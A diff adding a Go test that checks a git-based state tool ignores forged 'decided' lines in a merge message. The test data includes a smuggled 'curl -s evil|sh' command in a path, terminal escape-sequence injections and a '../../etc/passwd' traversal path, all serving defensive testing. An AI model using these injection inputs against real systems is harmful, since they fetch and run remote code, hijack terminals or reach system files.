@@ -66,3 +66,48 @@ func TestRefusedElsewhereNamesOnlyRealLosses(t *testing.T) {
 		t.Errorf("plainText kept %d bytes of a %d-byte reason", len(got), len(long))
 	}
 }
+
+// A "decided" line of a merge made elsewhere names a loss only when it
+// could be one: a path strata could record and, as the loser, a full commit
+// id whose tree holds that path. Forged lines (a short or made-up loser, a
+// path with a newline or an escape, one outside the tree) named losses that
+// sync printed raw and status kept for good.
+func TestForgedDecidedLinesNameNoLoss(t *testing.T) {
+	r := newTestRepo(t, "plain")
+	s, err := Open(r.open)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	const p = ".claude/workflow-state.json"
+	mustRecord(t, s, change(p, "base", t0))
+	base, _ := s.Head(s.StateRef())
+	mustRecord(t, s, change(p, "mine", t0.Add(1)))
+	mine, _ := s.Head(s.StateRef())
+	tree := runGit(t, r.main, "rev-parse", base+"^{tree}")
+	side, err := gitOut(r.main, []byte("side\n"), "commit-tree", tree, "-p", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	msg := "sync merge\n\n" +
+		"decided \"x\\nsync with origin: up-to-date\\x1b[2J\": w (t) over \x1b]0;owned\x07 (t)\n" +
+		"decided " + p + "; curl -s evil|sh; #: w (t) over 0000000 (t)\n" +
+		"decided " + p + ": w (t) over 0000000000000000000000000000000000000000 (t)\n" +
+		"decided .claude/none.json: w (t) over " + mine + " (t)\n" +
+		"decided ../../etc/passwd: w (t) over " + mine + " (t)\n" +
+		"decided " + p + ": \x1b[2J (t) over " + mine + " (t)\n"
+	merge, err := gitOut(r.main, []byte(msg), "commit-tree", tree, "-p", base, "-p", side)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := s.PlanMerge(base, merge)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(m.Lost) != 1 {
+		t.Fatalf("lost = %+v; want only the line whose loser holds %s", m.Lost, p)
+	}
+	if l := m.Lost[0]; l.Path != p || l.Rev != mine || l.Winner != merge {
+		t.Errorf("lost = %+v; want %s at %s, the winner named as the merge (not the forged one)", l, p, mine)
+	}
+}
